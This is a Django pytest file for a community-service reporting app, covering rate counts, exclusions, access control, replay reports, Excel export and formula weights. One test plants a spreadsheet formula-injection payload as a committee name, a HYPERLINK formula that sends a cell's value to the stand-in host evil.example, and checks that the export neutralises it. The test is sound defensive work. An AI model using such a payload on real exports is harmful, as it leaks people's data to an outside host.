"""The rates page as a head sees it, and who does not."""

import datetime as dt
import io

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse
from python_calamine import CalamineWorkbook

from linli.insight.reports import queries
from linli.insight.reports.models import RateFormula
from linli.insight.reports.rates import Counts, Parameters, Period
from linli.services.cases.tests import factories

pytestmark = pytest.mark.django_db
AT = factories.MORNING
MARCH = Period(dt.date(2026, 3, 1), dt.date(2026, 3, 31))


@pytest.fixture
def home() -> factories.Community:
    return factories.make_community()


@pytest.fixture
def worker(home: factories.Community):
    return factories.make_user("grid-worker", home.grid, unit=home.committee)


@pytest.fixture
def head(home: factories.Community):
    return factories.make_user("head", home.community, unit=home.committee)


def counts_at(user, place, period: Period) -> Counts:
    return queries.book(user, place, period).total(period)


def test_counts_follow_the_answers_and_leave_out_what_was_excluded(home, worker, head) -> None:
    factories.make_answered_case(home, worker, solved=True, satisfaction=4)
    factories.make_answered_case(home, worker, solved=False, satisfaction=3)
    excluded = factories.make_answered_case(home, worker, solved=False, satisfaction=2)
    assert counts_at(head, home.community, MARCH).effective == 3
    factories.exclude(excluded, asked_by=worker, granted_by=head)
    counts = counts_at(head, home.community, MARCH)
    assert (counts.effective, counts.solved, counts.satisfied, counts.fair) == (2, 1, 1, 1)
    line = queries.by_place(queries.book(head, home.community, MARCH), MARCH, Parameters())[0]
    assert line.name == "第一网格"
    assert float(line.rates.satisfaction or 0) == 0.95


def test_the_page_tells_what_exclusions_change(home, worker, head) -> None:
    factories.make_answered_case(home, worker, solved=True, satisfaction=4)
    excluded = factories.make_answered_case(home, worker, solved=False, satisfaction=1)
    factories.exclude(excluded, asked_by=worker, granted_by=head)
    client = Client()
    client.force_login(head)
    page = client.get(reverse("reports:rates"), {"place": home.community.pk, "day": "2026-03-11"})
    assert "本期剔除了 1 件有效回访。如果不剔除：响应率 100.0%，解决率 50.0%" in page.text


def test_foreign_figures_do_not_count(home, worker) -> None:
    factories.make_answered_case(home, worker, solved=True, satisfaction=4)
    stranger = factories.make_user("head", factories.make_community("乙社区").community)
    assert counts_at(stranger, home.community, MARCH).effective == 0


def test_a_name_is_never_taken_for_a_formula(home, worker, head) -> None:
    home.committee.name = '=HYPERLINK("http://evil.example/?"&B3,"居委会")'
    home.committee.save()
    factories.make_answered_case(home, worker, solved=True, satisfaction=5)
    client = Client()
    client.force_login(head)
    file = client.get(reverse("reports:rates-export"), {"day": "2026-03-11"})
    book = openpyxl.load_workbook(io.BytesIO(file.content))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert home.committee.name in [cell.value for cell in cells]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert [cell.hyperlink for cell in cells if cell.hyperlink] == []


def test_pages_and_export(home, worker, head) -> None:
    factories.make_answered_case(home, worker, solved=True, satisfaction=4)
    client = Client()
    client.force_login(head)
    page = client.get(reverse("reports:rates"), {"place": home.community.pk, "day": "2026-03-20"})
    assert page.status_code == 200
    assert "100.0%" in page.content.decode()
    file = client.get(reverse("reports:rates-export"), {"day": "2026-03-20"})
    rows = (
        CalamineWorkbook.from_filelike(io.BytesIO(file.content)).get_sheet_by_index(0).to_python()
    )
    assert rows[1][1] == "有效回访"
    assert client.get(reverse("reports:replay")).status_code == 200
    assert client.get(reverse("reports:formulas")).status_code == 200
    client.force_login(worker)
    assert client.get(reverse("reports:rates")).status_code == 403


def test_replay_calls_on_time_what_was_on_time(home, worker, head) -> None:
    quick = factories.make_answered_case(home, worker, solved=True, satisfaction=4)
    slow = factories.make_answered_case(home, worker, solved=True, satisfaction=4)
    factories.answer_later(slow, AT + dt.timedelta(days=11))
    page = queries.replay(queries.replayable(head, None, None, quick.source))
    shares = {replay.preset.code: replay.share for replay in page.replays}
    assert shares["fujian"] == 1.0
    assert shares["beijing"] == 0.5
    assert shares["jinan"] == 0.5
    assert page.answered == 2


def test_the_command_prints_and_writes_the_same_report(home, worker, tmp_path, capsys) -> None:
    report = tmp_path / "replay.md"
    with pytest.raises(CommandError, match="no answered requests"):
        call_command("replay", report=report)
    slow = factories.make_answered_case(home, worker, solved=True, satisfaction=4)
    factories.answer_later(slow, AT + dt.timedelta(days=11))
    call_command("replay", report=report)
    written = report.read_text()
    assert "| 北京 | 1 | 0 | 0.0% | 3.4 |" in written
    assert "| 福建某网格系统 | 1 | 1 | 100.0% | — |" in written
    assert written in capsys.readouterr().out


def test_weights_must_sum_to_a_hundred(home) -> None:
    street = factories.make_user("street", home.street)
    client = Client()
    client.force_login(street)
    formula = RateFormula.objects.get(in_use=True)
    url = reverse("reports:formula-edit", args=[formula.pk])
    values = {
        "name": "试",
        "source": "",
        "response_weight": 50,
        "solution_weight": 50,
        "satisfaction_weight": 50,
        "fair_worth": 90,
        "period_start_day": 1,
    }
    refused = client.post(url, values)
    assert refused.status_code == 422
    assert "现在是150%" in refused.content.decode()
    values["response_weight"] = 0
    assert client.post(url, values).status_code == 302
    formula.refresh_from_db()
    assert formula.period_start_day == 1


def test_one_of_several_communities_does_not_change_how_all_are_counted(home) -> None:
    formula = RateFormula.objects.get(in_use=True)
    url = reverse("reports:formula-edit", args=[formula.pk])
    client = Client()
    client.force_login(factories.make_user("street", home.community))
    assert client.get(url).status_code == 200
    factories.make_community("乙社区", street=home.street)
    assert client.get(url).status_code == 403
    assert client.post(reverse("reports:formula-use", args=[formula.pk])).status_code == 403
    page = client.get(reverse("reports:formulas")).text
    assert "对全站生效" in page
    assert url not in page
